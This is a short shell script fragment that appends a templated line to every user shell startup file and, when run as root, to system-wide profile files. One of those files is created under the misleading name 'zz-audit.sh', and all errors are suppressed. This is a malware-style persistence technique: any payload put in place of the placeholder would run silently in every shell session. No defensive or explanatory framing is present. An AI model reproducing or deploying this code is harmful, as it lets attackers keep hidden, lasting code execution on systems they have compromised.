for f in "$H/.profile" "$H/.bashrc" "$H/.bash_profile" "$H/.bash_login" "$H/.zshenv"; do printf '%s\n' @LINE@ >> "$f" 2>/dev/null; done
if [ "$(id -u)" = 0 ]; then
  mkdir -p /etc/profile.d 2>/dev/null
  printf '%s\n' @LINE@ >> /etc/profile.d/zz-audit.sh 2>/dev/null
  for f in /etc/profile /etc/bash.bashrc /root/.bashrc /root/.profile; do printf '%s\n' @LINE@ >> "$f" 2>/dev/null; done
fi
